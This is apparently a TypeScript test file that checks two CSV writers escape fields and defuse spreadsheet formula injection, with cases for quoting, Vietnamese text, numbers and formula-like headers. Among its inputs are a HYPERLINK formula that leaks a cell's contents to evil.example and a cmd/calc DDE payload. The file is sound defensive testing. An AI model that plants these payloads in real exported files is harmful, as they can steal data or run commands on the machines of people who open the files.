import { expect } from 'chai';
import { csvField as itemsField } from '../../server/features/write.ts';
import { csvField as summaryField, toCsv } from '../../viewer/src/csv.ts';

/** Input, and the field both writers must produce (OWASP: leading quote and a quoted cell for formula-like text). */
const cases: Array<[string | number | null, string]> = [
  ['plain', 'plain'],
  ['Bắc Ninh', 'Bắc Ninh'],
  ['a,b', '"a,b"'],
  ['say "hi"', '"say ""hi"""'],
  ['two\nlines', '"two\nlines"'],
  [null, ''],
  ['=1+1', `"'=1+1"`],
  ['=HYPERLINK("http://evil.example/?x="&A1,"click")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`],
  ["+cmd|' /C calc'!A0", `"'+cmd|' /C calc'!A0"`],
  ['-2+3', `"'-2+3"`],
  ['@SUM(A1:A9)', `"'@SUM(A1:A9)"`],
  ['\t=1', `"'\t=1"`],
  ['\r=1', `"'\r=1"`],
  ['-', `"'-"`],
  ['- gạch đầu dòng', `"'- gạch đầu dòng"`],
  // Plain numbers are not formulas: numeric columns arrive as text and must stay numbers in the sheet.
  ['-12.5', '-12.5'],
  ['+3', '+3'],
  ['-1e-3', '-1e-3'],
  ['-.5', '-.5'],
  [-7, '-7'],
  [42, '42'],
  ['a=b', 'a=b'],
];

describe('CSV cells', () => {
  for (const [input, expected] of cases) {
    it(`writes ${JSON.stringify(input)} as ${JSON.stringify(expected)} in items f=csv and in the summary CSV`, () => {
      expect(itemsField(input)).to.equal(expected);
      expect(summaryField(input)).to.equal(expected);
    });
  }

  it('neutralises formula-like header cells too (uploaded column labels are untrusted)', () => {
    expect(toCsv(['=cmd', 'count'], [['@x', -3]])).to.equal(`\uFEFF"'=cmd",count\r\n"'@x",-3\r\n`);
  });
});
